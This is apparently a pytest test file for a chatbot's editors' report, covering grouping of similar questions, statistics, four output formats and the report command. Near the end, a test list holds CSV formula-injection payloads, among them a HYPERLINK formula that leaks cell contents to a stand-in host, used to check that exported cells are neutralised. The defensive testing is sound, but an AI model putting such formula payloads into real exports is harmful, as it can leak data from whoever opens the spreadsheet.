"""The editors' report: grouping, figures, the four formats, and `python -m bot report`."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time

import pytest

from bot import cli
from bot.report.build import build_report, percentile
from bot.report.command import parse_since
from bot.report.formats import CSV_COLUMNS, render
from bot.report.grouping import group_questions, near_duplicates
from bot.storage.records import DOWN, UP
from bot.storage.urls import parse_database_url, sqlite_target
from tests.storage_support import DAY, NOW, answer, declined, ids, opened, vote

# ------------------------------------------------------------------------------ grouping


def test_spellings_of_one_question_are_one_group():
    """Case, punctuation, a typo and a small word do not make a new question."""
    [group] = group_questions(
        [
            "where is the tokyo cluster",
            "Where is the Tokyo cluster?",
            "wher is tokyo cluster",
            "where is the tokyo cluster",
        ]
    )
    assert group.count == 4
    assert group.text == "where is the tokyo cluster"
    assert set(group.examples()) == {"Where is the Tokyo cluster?", "wher is tokyo cluster"}


def test_different_places_are_different_questions():
    """Tokyo and Kyoto are alike as strings, but one is not a misspelling of the other."""
    assert not near_duplicates("where is the tokyo cluster", "where is the kyoto cluster")
    groups = group_questions(["where is the tokyo cluster", "where is the kyoto cluster"])
    assert [g.count for g in groups] == [1, 1]


def test_japanese_variants_group_together():
    groups = group_questions(["東京のクラスターは", "東京のクラスタは", "札幌の予算は"])
    assert sorted(g.count for g in groups) == [1, 2]


def test_groups_come_largest_first():
    texts = ["how is the weather"] * 2 + ["what is the budget of tokyo"] * 5
    assert [g.text for g in group_questions(texts)] == [
        "what is the budget of tokyo",
        "how is the weather",
    ]


# ------------------------------------------------------------------------------ figures


def sample():
    a = ids(8)
    answers = [
        declined(a[0], "where is the tokyo cluster", route="text:mention"),
        declined(a[1], "wher is tokyo cluster", route="/ask"),
        declined(a[2], "how is the weather", route="/ask", lang="ja"),
        answer(a[3], route="/ask", latency_ms=1.0),
        answer(a[4], route="/ask", latency_ms=3.0),
        answer(
            a[5],
            route="text:mention",
            rule="faq",
            intent="faq",
            matches="budget",
            confidence=0.6,
            question="how much money did sapporo get",
        ),
        answer(a[6], route="console", intent="empty", rule="empty", answered=False, matches=""),
    ]
    old = answer(a[7], at=NOW - 20 * DAY, rule="faq", intent="faq", matches="purpose")
    votes = [
        vote(a[3], "p1", DOWN),
        vote(a[4], "p2", DOWN),
        vote(a[4], "p3", UP),
        vote(a[5], "p1", DOWN),
        vote(a[7], "p4", DOWN),
        vote("f" * 16, "p5", DOWN),
    ]
    return answers, votes, old


def test_the_report_counts_what_happened():
    answers, votes, old = sample()
    report = build_report(answers, votes, since=NOW - 7 * DAY, until=NOW + 1, voted_answers=[old])
    assert (report.answers, report.answered, report.declined) == (7, 3, 4)
    assert report.low_confidence == 1
    assert (report.votes_up, report.votes_down) == (1, 5)
    [tokyo, weather] = report.unanswered
    assert (tokyo.text, tokyo.count, tokyo.examples) == (
        "where is the tokyo cluster",
        2,
        ("wher is tokyo cluster",),
    )
    assert tokyo.answered_as == ("decline · out_of_domain",)
    assert weather.count == 1
    assert [g.text for g in report.unsure] == ["how much money did sapporo get"]


def test_the_most_disliked_answers_are_grouped_by_entry():
    """Votes add up per entry (rule, intent, matched ids), older answers included; votes
    whose answer left the log are shown apart."""
    answers, votes, old = sample()
    report = build_report(answers, votes, since=NOW - 7 * DAY, until=NOW + 1, voted_answers=[old])
    rows = [(d.entry.label if d.entry else None, d.down, d.up) for d in report.disputed]
    assert rows[0] == ("region · fields · kyoto-first", 2, 1)
    assert set(rows[1:]) == {
        ("faq · faq · budget", 1, 0),
        ("faq · faq · purpose", 1, 0),
        (None, 1, 0),
    }
    budget = next(d for d in report.disputed if d.entry and "budget" in d.entry.label)
    assert budget.questions == ("how much money did sapporo get",)


def test_answered_rate_and_latency_by_route_rule_and_language():
    answers, votes, _ = sample()
    report = build_report(answers, votes, since=NOW - 7 * DAY, until=NOW + 1)
    by_route = {b.key: b for b in report.by_route}
    assert (by_route["/ask"].answers, by_route["/ask"].answered) == (4, 2)
    assert by_route["/ask"].answered_rate == 0.5
    assert {b.key for b in report.by_rule} == {"decline", "region", "faq", "empty"}
    assert {b.key: b.answers for b in report.by_language} == {"en": 6, "ja": 1}


def test_without_texts_the_report_shows_counts_only():
    answers, votes, _ = sample()
    report = build_report(answers, votes, since=NOW - 7 * DAY, until=NOW + 1, texts_shown=False)
    for fmt in ("text", "markdown", "csv", "json"):
        out = render(report, fmt)
        assert "tokyo" not in out
        assert "sapporo" not in out
    assert report.answers == 7


def test_nearest_rank_percentiles():
    assert percentile([], 0.5) == 0.0
    assert percentile([3.0, 1.0, 2.0], 0.5) == 2.0
    assert percentile(list(range(1, 101)), 0.95) == 95


# ------------------------------------------------------------------------------ formats


@pytest.fixture
def report():
    answers, votes, old = sample()
    return build_report(answers, votes, since=NOW - 7 * DAY, until=NOW + 1, voted_answers=[old])


def test_the_text_report_reads_top_to_bottom(report):
    """Headline, then the likely mistakes (👎, asked again, unread words), then what was
    declined, then the figures, then what to do next."""
    text = render(report, "text")
    order = [
        "kcbot report:",
        "7 answers: 3 answered (42.9%), 4 declined",
        "Possible mistakes:",
        "Answers with the most 👎",
        "region · fields · kyoto-first",
        "Asked again right after the answer",
        "Words the bot could not read",
        "Questions the bot could not answer",
        "2×  where is the tokyo cluster",
        "also asked as: “wher is tokyo cluster”",
        "Answered, but with low confidence",
        "Answered rate and latency",
        "by route",
        "by rule",
        "by language",
        "python -m bot check",
    ]
    positions = [text.index(part) for part in order]
    assert positions == sorted(positions)


def test_markdown_shows_questions_literally(report):
    """A question with Markdown in it cannot bold, link or break a table."""
    answers, votes, _ = sample()
    answers.append(declined("e" * 16, "what | is *this* [x](y)"))
    out = render(build_report(answers, votes, since=NOW - 7 * DAY, until=NOW + 1), "markdown")
    assert r"what \| is \*this\* \[x\]\(y\)" in out
    assert out.startswith("# kcbot report:")


def test_csv_is_one_table_for_a_spreadsheet(report):
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    sections = {row["section"] for row in rows}
    assert sections == {
        "summary",
        "unanswered",
        "low_confidence",
        "thumbs_down",
        "route",
        "rule",
        "language",
    }
    tokyo = next(r for r in rows if r["item"] == "where is the tokyo cluster")
    assert tokyo["count"] == "2"


def test_json_carries_every_part(report):
    data = json.loads(render(report, "json"))
    assert data["answers"] == 7
    assert data["declined"] == 4
    assert data["unanswered"][0]["text"] == "where is the tokyo cluster"
    assert data["since"].endswith("UTC")
    assert {"by_route", "by_rule", "by_language", "disputed"} <= set(data)


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("7d", 7 * DAY),
        ("24h", DAY),
        ("90m", 5400),
        ("2w", 14 * DAY),
        ("3", 3 * DAY),
        (" 12H ", 12 * 3600),
    ],
)
def test_periods(text, seconds):
    assert parse_since(text) == seconds


@pytest.mark.parametrize("text", ["", "0d", "week", "7x", "-1d", "7 days"])
def test_bad_periods_say_what_is_expected(text):
    with pytest.raises(ValueError, match="7d, 24h"):
        parse_since(text)


# ----------------------------------------------------------------------------- command


def test_the_report_command_reads_the_log(tmp_path, monkeypatch, capsys):
    """`python -m bot report --format json --since 1d` over a real SQLite log."""
    now = time.time()

    async def fill():
        async with opened(sqlite_target(tmp_path / "kcbot.sqlite3")) as store:
            await store.write(
                [
                    declined(ids(1)[0], "how is the weather", at=now - 3600),
                    declined(ids(2)[1], "how is the weather", at=now - 3 * DAY),
                ]
            )

    asyncio.run(fill())
    monkeypatch.setenv("DATA_DIR", str(tmp_path))
    assert cli.main(["report", "--since", "1d", "--format", "json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert [(g["text"], g["count"]) for g in data["unanswered"]] == [("how is the weather", 1)]
    assert cli.main(["report"]) == 0
    assert "2×  how is the weather" in capsys.readouterr().out


def test_no_log_yet_is_explained(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATA_DIR", str(tmp_path))
    assert cli.main(["report"]) == 1
    err = capsys.readouterr().err
    assert "no question log at" in err
    assert not (tmp_path / "kcbot.sqlite3").exists()


def test_a_bad_period_is_a_usage_error(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATA_DIR", str(tmp_path))
    assert cli.main(["report", "--since", "soon"]) == 2
    assert "--since 'soon'" in capsys.readouterr().err


async def test_the_report_reads_postgresql_too(postgres_url, tmp_path, monkeypatch, capsys):
    async with opened(parse_database_url(postgres_url, tmp_path)) as store:
        await store.write([declined(ids(1)[0], "how is the weather", at=time.time())])
    monkeypatch.setenv("DATABASE_URL", postgres_url)
    code = await asyncio.to_thread(cli.main, ["report", "--format", "csv"])
    assert code == 0
    assert '"unanswered","how is the weather","1"' in capsys.readouterr().out


FORMULAS = [
    '=HYPERLINK("https://example.com/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_cells_never_start_like_a_formula():
    """Questions are stored as typed; in the CSV, one that a spreadsheet would run (OWASP's
    list: = + - @ tab CR) starts with an apostrophe instead, and reads back otherwise intact."""
    answers = [declined(i, text) for i, text in zip(ids(len(FORMULAS)), FORMULAS, strict=True)]
    report = build_report(answers, [], since=NOW - DAY, until=NOW + 1)
    rows = list(csv.reader(io.StringIO(render(report, "csv"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    neutralised = [cell for cell in cells if cell.startswith("'")]
    assert "'" + FORMULAS[0] in neutralised  # the link, whole, as text
    assert len(neutralised) >= 4  # every question's group, whichever were merged
    assert all(cell[1:].startswith(("=", "+", "-", "@", "\t", "\r")) for cell in neutralised)


def test_every_csv_cell_is_quoted():
    """Quoted cells: a comma or a quote inside a question cannot open a new cell."""
    report = build_report([declined(ids(1)[0], 'a,"=1+1"')], [], since=NOW - DAY, until=NOW + 1)
    for line in render(report, "csv").splitlines():
        assert line.startswith('"')
        assert line.endswith('"')
